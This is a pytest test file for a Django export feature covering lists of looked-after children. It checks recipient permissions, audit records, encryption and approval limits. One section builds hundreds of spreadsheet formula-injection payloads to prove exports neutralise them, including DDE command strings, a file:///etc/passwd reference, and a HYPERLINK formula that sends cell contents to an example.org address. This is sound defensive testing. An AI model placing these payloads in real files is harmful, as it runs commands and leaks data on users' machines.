"""A list as it leaves: for whom, what they may have, and what the file holds."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from onroll.access.actors import Actor
from onroll.access.encryption import add_key, current_key, key_of
from onroll.access.models import Account
from onroll.access.roles import Role
from onroll.access.sections import Section
from onroll.children.models import Allocation, CareEpisode, Child, Disclosure, Identifiers, SchoolPlace
from onroll.children.roll_columns import COLUMNS, Column
from onroll.children.tests.scene import write
from onroll.design.spreadsheets import csv_bytes, xlsx_bytes
from onroll.design.tables import Cell
from onroll.exports import storing
from onroll.exports.models import Export
from onroll.exports.recipients import LIST, recipients, recipients_of
from onroll.history.changes import change
from onroll.history.models import Entry
from onroll.schools.models import School

from .conftest import proved_an_hour_ago

LISTS = "/exports/list"
PURPOSE = "The cohort meeting in May"


def make(client, query="", **typed):
    """Make a list through the page, and answer the export."""
    words = {"columns": ["number", "year", "school"], "purpose": PURPOSE, "format": "csv", **typed}
    answer = client.post(f"{LISTS}?{query}", words)
    assert answer.status_code == 302, answer.content.decode()
    return Export.objects.latest("pk")


def rows_of(export) -> list[list[str]]:
    return list(csv.reader(io.StringIO(storing.kept(export).decode("utf-8-sig"))))


@pytest.mark.proves("EXP-1")
@pytest.mark.parametrize("key", list(recipients_of(LIST)))
def test_a_recipient_is_offered_the_columns_of_its_sections_and_no_other(cast, key):
    recipient = recipients()[key]

    text = cast.client("head").get(f"{LISTS}?for={key}").content.decode()
    offered = set(re.findall(r'name="columns" type="checkbox" value="(\w+)"', text)) or set(
        re.findall(r'name="columns"[^>]*value="(\w+)"', text)
    )

    inside = recipient.key == "own_team"
    of_sections = {c.key for c in COLUMNS.values() if c.section in recipient.sections and (inside or not c.apart)}
    allowed = of_sections | set(recipient.also)
    assert offered == allowed
    assert not any(
        section.data_class == "P4"
        for section in recipient.sections
        if recipient.is_outside and section is not Section.HEALTH
    )


@pytest.mark.proves("EXP-1")
def test_a_column_that_the_recipient_may_not_have_is_refused_even_when_it_is_sent(cast):
    answer = cast.client("head").post(
        f"{LISTS}?for=school", {"columns": ["ethnicity"], "purpose": PURPOSE, "format": "csv"}
    )

    assert answer.status_code == 200
    assert "There is a problem" in answer.content.decode()
    assert not Export.objects.exists()


@pytest.mark.proves("EXP-1")
def test_an_address_a_carer_and_contact_are_in_no_profile():
    never = {Section.ADDRESS, Section.CARER, Section.CONTACT, Section.LOOKS, Section.SEALED}

    assert [each.key for each in recipients().values() if each.sections & never] == []


def test_without_a_purpose_nothing_is_made(cast):
    answer = cast.client("head").post(LISTS, {"columns": ["year"], "purpose": "short", "format": "csv"})

    assert "at least 10 characters" in answer.content.decode()
    assert not Export.objects.exists()


@pytest.mark.proves("EXP-4")
def test_the_file_says_who_made_it_when_for_whom_and_why(cast):
    for format in ("csv", "xlsx"):
        export = make(cast.client("head"), "for=school&year=", format=format, columns=["year"])
        data = storing.kept(export)
        said = data.decode("utf-8-sig") if format == "csv" else str(_cells(data))
        for words in ("Hana Reid", f"{export.made_at:%Y}", "A school or other setting", PURPOSE):
            assert words in said, (format, words)


def _cells(data: bytes) -> list:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [row for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()]


@pytest.mark.proves("EXP-4")
def test_an_export_is_on_record_with_columns_filter_children_purpose_and_digest(cast):
    import hashlib

    export = make(cast.client("head"), "kind=everyone")

    assert export.columns == ["number", "year", "school"]
    assert "Who is on the list: Everyone held" in export.narrowing
    assert set(export.keys) == {cast.mia.pk, cast.noah.pk}
    assert (export.rows, export.purpose, export.format) == (2, PURPOSE, "csv")
    assert export.sha256 == hashlib.sha256(storing.kept(export)).hexdigest()
    entry = Entry.objects.get(act="export")
    assert set(entry.children.split(",")) == {str(cast.mia.pk), str(cast.noah.pk)}
    assert set(entry.section.split(",")) == {"a", "a3", "d"}


def test_on_the_disk_the_file_is_closed(cast):
    export = make(cast.client("head"))

    assert b"Dawson" not in storing.path_of(export.public_id).read_bytes()


@pytest.mark.proves("PLT-4")
def test_a_new_key_closes_the_files_of_exports_too(cast):
    export = make(cast.client("head"))
    before = storing.kept(export)
    add_key(cast.ashcombe.pk)

    assert [storing.close_again(cast.ashcombe.pk), storing.close_again(cast.ashcombe.pk)] == [1, 0]
    assert key_of(storing.path_of(export.public_id).read_text()) == current_key(cast.ashcombe.pk)
    assert storing.kept(export) == before


@pytest.mark.proves("EXP-1", "ADR-2")
@pytest.mark.parametrize(("recipient", "shown"), [("own_team", True), ("school", False), ("other_authority", False)])
def test_a_school_that_is_marked_leaves_to_our_own_team_alone(cast, recipient, shown):
    cast.place.disclosure = Disclosure.NOT_TO_NAMED_PLACES
    write(cast.place)

    rows = rows_of(make(cast.client("head"), f"for={recipient}", columns=["school"]))

    assert ("Hillside" in str(rows)) is shown
    assert "Riverside" in str(rows)
    assert rows[-1][3] == ("Hillside" if shown else "–")


@pytest.mark.proves("EXP-1")
def test_statistics_hold_no_name_number_birth_or_school(cast):
    export = make(cast.client("head"), "for=statistics", columns=["year", "since", "sen"])

    text = str(rows_of(export)[5:])
    for word in ("Dawson", "Mia", "Birch", "Noah", "00417", "2014", "Hillside"):
        assert word not in text


# EXP-3: what is in the file is what was permitted, and nothing runs

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", '"=', "'=")
BODIES = (
    "1+1", "-1", "A1", "A1;B1", "$A$1", "R1C1", "1,2\r\n=3", "{1;2}", "#REF!", "TRUE()", "PI()", "NOW()", "1%", "=1",
    "cmd|' /C calc'!A0", "cmd|' /C notepad'!'A1'", "MSEXCEL|'\\..\\..\\x.exe'!''", "DDE(1)", 'DDE("a";"b";"c")',
    'HYPERLINK("http://example.org?x="&A1,"x")', "WEBSERVICE(A1)", "IMPORTXML(A1)", 'IMPORTDATA("http://a")',
    "IMAGE(A1)",
    'INDIRECT("a1")', "SUM(A1:A9)*2", "@SUM(1)", "'file:///etc/passwd'#$a.A1", "[x.xlsx]S!A1", 'CALL("Kernel32","x")',
    'EXEC("calc")', 'REGISTER.ID("a","b")', 'RTD("a","b")', 'CONCATENATE(A1,"&",B1)', "LAMBDA(x,x)(1)",
    "1+cmd|'/c x'!A1",
)  # fmt: skip
PAYLOADS = [start + body for start in STARTS for body in BODIES]
LIVE = tuple("=+-@\t\r\n＝＋－＠")


def live_in_csv(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(LIVE)]


def live_in_xlsx(data: bytes) -> list[bytes]:
    """Elements of the sheets that would act: formulas and links. What is left is text."""
    return re.findall(rb"<f[ >]|<hyperlink|<oleObject|<dataValidation", _sheet(data))


def test_there_are_five_hundred_payloads_and_an_unguarded_file_would_be_found_out():
    assert len(set(PAYLOADS)) >= 500
    unguarded = io.StringIO()
    csv.writer(unguarded).writerows([payload] for payload in PAYLOADS)
    # The three starts that begin with a blank or a mark of quotation are text already.
    assert len(live_in_csv(unguarded.getvalue().encode())) == (len(STARTS) - 3) * len(BODIES)


@pytest.mark.proves("EXP-3")
@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_no_cell_of_a_spreadsheet_runs_as_a_formula(format):
    """Every payload as a cell, backwards, as a heading and above: read back by an independent reader."""
    rows = [[payload, payload[::-1], f"x{payload}"] for payload in PAYLOADS]
    above = [[payload] for payload in PAYLOADS[::40]]
    if format == "csv":
        assert live_in_csv(csv_bytes(PAYLOADS[:9], rows, above=above)) == []
        return
    made = xlsx_bytes("Children", PAYLOADS[:9], rows, above=above)
    assert live_in_xlsx(made) == []
    read = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
    assert [row[2] for row in read[len(above) + 1 :]] == [row[2] for row in rows]


@pytest.mark.proves("EXP-3")
def test_every_spreadsheet_is_written_by_the_one_writer():
    """The exchange files are for machines, and their cells are as held."""
    machines = {"onroll/exchange/feeds/exchange/exporting.py"}
    root = Path(__file__).parents[3]
    sources = [path for path in (root / "onroll").rglob("*.py") if "tests" not in path.parts]
    writes = re.compile(r"csv\.(Dict)?[wW]riter|xlsxwriter|openpyxl|text/csv")
    found = {str(path.relative_to(root)) for path in sources if writes.search(path.read_text())}

    assert found - machines == {
        "onroll/design/spreadsheets.py", "onroll/exports/views.py", "onroll/documents/filetypes.py",
    }  # fmt: skip


def made_of(cast, payloads: list[str]) -> None:
    """A child for each payload, which stands in every field of text that a list can hold."""

    def people(this, role: Role) -> list[Account]:
        names = [(f"{role}{at}@example.org", payload) for at, payload in enumerate(payloads)]
        return this.bulk_create(Account, [Account(email=e, given_name=p, family_name=p) for e, p in names])

    own: dict[str, Any] = {"authority": cast.ashcombe}
    with change("test.set_up", actor=Actor.command_line(0, today=cast.today, user="test")) as this:
        born = cast.today - timedelta(days=4000)
        kept = [{"given_name": each, "family_name": each, "known_as": each, "birth_date": born} for each in payloads]
        children = this.bulk_create(Child, [Child(**own, **values) for values in kept])
        schools = [School(name=each, town=each, setting_id=f"F{at}", la_code="999") for at, each in enumerate(payloads)]
        this.bulk_create(School, schools)
        pairs = list(zip(children, schools, payloads, strict=True))
        start = cast.today - timedelta(days=90)
        this.bulk_create(SchoolPlace, [SchoolPlace(**own, child=c, school=s, start=start) for c, s, _ in pairs])
        numbers = [Identifiers(**own, child=c, child_number=f"{at}{p}"[:20], upn=p[:13])
                   for at, (c, _, p) in enumerate(pairs)]  # fmt: skip
        this.bulk_create(Identifiers, numbers)
        care = {"start": start, "legal_status": "C2", "reason_new": "S", "category_of_need": "N1"}
        this.bulk_create(CareEpisode, [CareEpisode(**own, child=c, **care) for c in children])
        for role in (Role.SOCIAL_WORKER, Role.VS_OFFICER, Role.IRO):
            working = zip(children, people(this, role), strict=True)
            links = [Allocation(**own, child=c, account=a, role=role, start=start) for c, a in working]
            this.bulk_create(Allocation, links)


@pytest.mark.proves("EXP-3")
@pytest.mark.parametrize(
    "payloads", [PAYLOADS[::37], pytest.param(PAYLOADS, marks=pytest.mark.nightly)], ids=["some", "all"]
)
def test_no_text_of_a_record_leaves_as_a_formula(cast, payloads):
    made_of(cast, payloads)
    cast.ashcombe.export_limit = 10_000
    write(cast.ashcombe)
    client = cast.client("head")
    columns = [column.key for column in recipients()["own_team"].columns_for(cast.actor("head"))]

    as_csv = storing.kept(make(client, columns=columns))
    as_xlsx = storing.kept(make(client, columns=columns, format="xlsx"))

    assert live_in_csv(as_csv) == []
    assert live_in_xlsx(as_xlsx) == []
    # Every payload is there in each of its fields, so each was guarded and none left out.
    rows = [" ".join(row) for row in csv.reader(io.StringIO(as_csv.decode("utf-8-sig"), newline=""))]
    for payload in payloads:
        assert max(row.count(payload.strip()) for row in rows) >= 7, payload


def _sheet(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


@pytest.mark.proves("EXP-3")
def test_the_values_in_the_workbook_are_those_permitted_and_there_is_nothing_beside_them(cast):
    export = make(cast.client("head"), format="xlsx")
    data = storing.kept(export)

    held = {str(cell) for row in _cells(data)[5:] for cell in row if cell != ""}
    years = {cell for row in rows_of(make(cast.client("head")))[6:] for cell in row if cell.isdigit() and len(cell) < 3}
    assert held == {
        "Family name", "Given name", "Known as", "Number", "Year", "School",
        "Dawson", "Mia", "Birch", "Noah", "00417", "00418", "Hillside", "Riverside", *years,
    }  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        workbook = archive.read("xl/workbook.xml").decode()
        core = archive.read("docProps/core.xml").decode()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert [name for name in names if re.search("comment|drawing|pivot|externalLink|vba|custom", name, re.I)] == []
    assert workbook.count("<sheet ") == 1
    for word in ("definedName", 'state="hidden"', "veryHidden"):
        assert word not in workbook
    for word in ("hidden=", "autoFilter", "<f>"):
        assert word not in sheet
    assert "<dc:creator></dc:creator>" in core or "<dc:creator/>" in core
    assert "<cp:lastModifiedBy></cp:lastModifiedBy>" in core or "<cp:lastModifiedBy/>" in core


@pytest.mark.proves("EXP-5")
def test_the_same_table_gives_the_same_bytes(cast):
    from onroll.design.spreadsheets import xlsx_bytes

    assert xlsx_bytes("A", ["B"], [["c"]]) == xlsx_bytes("A", ["B"], [["c"]])


# Many children


@pytest.fixture
def low_limit(cast):
    cast.ashcombe.export_limit = 1
    write(cast.ashcombe)
    return cast


@pytest.mark.proves("EXP-4")
def test_over_the_limit_sensitive_facts_take_a_fresh_second_factor(low_limit):
    client = proved_an_hour_ago(low_limit.client("head"))
    typed = {"columns": ["number"], "purpose": PURPOSE, "format": "csv"}

    asked = client.post(LISTS, typed)

    assert asked.status_code == 302
    assert asked.headers["Location"].startswith(reverse("access:prove_again"))
    assert not Export.objects.exists()
    make(low_limit.client("head"), columns=["number"])
    # Without sensitive facts, or of no more than the limit, nobody is asked.
    make(client, columns=["year"])
    low_limit.ashcombe.export_limit = 2
    write(low_limit.ashcombe)
    make(client, columns=["number"])


@pytest.mark.proves("EXP-4")
def test_over_the_limit_restricted_facts_wait_for_a_second_person(low_limit, monkeypatch):
    column = Column("sdq", "SDQ", Section.HEALTH, lambda row, day: Cell("12"), lambda actor, day: {})
    monkeypatch.setitem(COLUMNS, "sdq", column)
    recipient = recipients()["own_team"]
    from onroll.children.roll_filters import Choice
    from onroll.exports.actions import make_list

    export = make_list(
        Choice(as_at=low_limit.today),
        recipient,
        [column],
        purpose=PURPOSE,
        format="csv",
        people=[],
        actor=low_limit.actor("head"),
    )

    assert export.state == Export.State.WAITING
    assert low_limit.client("head").get(reverse("exports:file", args=[export.public_id])).status_code == 404
